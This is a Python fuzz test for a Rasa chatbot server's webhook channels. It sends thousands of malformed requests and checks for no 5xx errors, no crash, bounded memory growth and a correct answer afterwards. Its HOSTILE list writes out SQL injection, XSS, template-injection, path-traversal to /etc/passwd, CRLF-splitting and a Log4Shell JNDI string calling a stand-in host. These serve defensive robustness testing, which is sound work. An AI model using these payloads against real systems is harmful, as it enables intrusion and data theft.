"""Fuzz the real Rasa server's channels with hypothesis: thousands of malformed and hostile
requests (broken JSON, wrong types, huge strings, control characters, NUL, emoji,
right-to-left text, lone surrogates, HTML/script, SQL-looking text). Each must get an
answer below 500; afterwards the server is alive, its memory grew less than RSS_GROWTH_MAX,
and a normal question is answered correctly."""
from __future__ import annotations

import collections
import json
import time
import uuid

import psutil
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from tests.conftest import IN_CI
from tests.security.conftest import MAX_BODY, Servers, post_json, request

EXAMPLES_PER_CHANNEL = 1200
RSS_GROWTH_MAX = 150 * 2**20
WARM_UP_TURNS = 40
REPORT = collections.Counter()

HOSTILE = [
    "' OR '1'='1' --", "'; DROP TABLE events; --", "1; SELECT * FROM events WHERE 1=1", "\" OR \"\"=\"",
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
    "</textarea><svg onload=alert(1)>", "{{7*7}}${7*7}<%= 7*7 %>", "${jndi:ldap://x.example/a}",
    "../../../../etc/passwd", "%s%s%s%n%x", "\u202eevil\u202c", "\u200f\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "\x00", "\x00what does a data scientist do?\x00", "\r\n\r\nHTTP/1.1 200 OK", "\ufeff\ufffe\uffff",
    "\U0001F9D1\u200D\u2695\uFE0F" * 50, "Z\u0351\u0360\u036b\u0343\u036a\u0302" * 40, "/restart", "/session_start",
    "/greet{\"role\": {\"$gt\": \"\"}}", "/nonexistent_intent", "/ask_about{\"role\": \"clinical_informaticist\"",
    "null", "[]", "{}", "\ud800", "\udfff\ud800",
]
SENDERS = st.one_of(st.text(max_size=64), st.sampled_from(HOSTILE), st.just("x" * 5000))
JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=40),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                    max_leaves=12)
TEXT = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x10FFFF), max_size=300),
    st.sampled_from(HOSTILE),
    st.tuples(st.sampled_from(HOSTILE), st.text(max_size=50), st.sampled_from(HOSTILE)).map("".join),
    st.builds(lambda unit, n: unit * n, st.sampled_from(["a", "\U0001F600", "\x00", "<", "\u202e", " ", "é"]),
              st.integers(1, 40_000)),
)
PAYLOAD = st.fixed_dictionaries({}, optional={
    "sender": st.one_of(SENDERS, JSON), "message": st.one_of(TEXT, TEXT, JSON),
    "metadata": JSON, "token": JSON, "input_channel": JSON, "message_id": JSON,
})


def _encode(value: object) -> bytes:
    return json.dumps(value).encode("utf-8", "surrogatepass")


# well formed, hostile text: these reach the guard, the NLU, the action server and the store
WELL_FORMED = st.fixed_dictionaries({
    "sender": st.one_of(st.uuids().map(str), st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._:@-]{0,40}", fullmatch=True)),
    "message": TEXT,
})
BODIES = st.one_of(
    WELL_FORMED.map(_encode),
    WELL_FORMED.map(_encode),
    WELL_FORMED.map(_encode),
    WELL_FORMED.map(_encode),
    PAYLOAD.map(_encode),
    JSON.map(_encode),
    st.binary(max_size=3000),
    st.tuples(PAYLOAD.map(_encode), st.integers(0, 200)).map(lambda b: b[0][: b[1]]),  # truncated JSON
    st.builds(lambda n: b'{"sender": "x", "message": "' + b"A" * n + b'"}', st.integers(MAX_BODY - 100, MAX_BODY + 100)),
)
CONTENT_TYPES = st.sampled_from(["application/json", "text/plain", "application/x-www-form-urlencoded",
                                 "multipart/form-data; boundary=x", "", "application/json; charset=latin-1"])


def fuzz(servers: Servers, path: str) -> collections.Counter:
    statuses: collections.Counter = collections.Counter()

    @settings(max_examples=EXAMPLES_PER_CHANNEL, deadline=None, database=None, derandomize=IN_CI,
              suppress_health_check=list(HealthCheck), phases=[Phase.explicit, Phase.generate, Phase.shrink])
    @given(body=BODIES, content_type=CONTENT_TYPES)
    def one(body: bytes, content_type: str) -> None:
        headers = {"Content-Type": content_type} if content_type else {}
        status, answer = request(servers.base + path, body, headers, method="POST", timeout=60)
        statuses[status] += 1
        assert status < 500, (status, answer[:300], body[:300])

    one()
    return statuses


def rss(servers: Servers) -> int:
    process = psutil.Process(servers.rasa.pid)
    return process.memory_info().rss + sum(c.memory_info().rss for c in process.children(recursive=True))


def answered_normally(servers: Servers) -> None:
    who = f"after-{uuid.uuid4().hex[:8]}"
    status, replies = post_json(f"{servers.base}/webhooks/rest/webhook",
                                {"sender": who, "message": "what does a clinical informaticist do?"})
    assert status == 200 and replies, replies
    status, body = post_json(f"{servers.base}/webhooks/codecare/webhook",
                             {"sender": who + "w", "message": "what does a clinical informaticist do?"})
    assert status == 200 and body["messages"][0]["answer_id"] == "role.clinical_informaticist.duties", body


def test_fuzz_the_channels(servers: Servers) -> None:
    for i in range(WARM_UP_TURNS):  # caches and lazy imports first, so growth means a leak
        post_json(f"{servers.base}/webhooks/rest/webhook", {"sender": f"warm-{i % 5}", "message": "what is alert fatigue?"})
    before, started = rss(servers), time.monotonic()
    for path in ("/webhooks/rest/webhook", "/webhooks/codecare/webhook"):
        statuses = fuzz(servers, path)
        REPORT.update({f"{path} {code}": n for code, n in statuses.items()})
        assert servers.rasa.poll() is None, "the Rasa server died"
        answered_normally(servers)
    growth = rss(servers) - before
    print(f"fuzz: {sum(REPORT.values())} requests in {time.monotonic() - started:.1f} s; "
          f"RSS growth {growth / 2**20:.1f} MiB; statuses {dict(sorted(REPORT.items()))}")
    assert growth < RSS_GROWTH_MAX, f"RSS grew by {growth / 2**20:.1f} MiB"
    assert sum(REPORT.values()) >= 2 * EXAMPLES_PER_CHANNEL
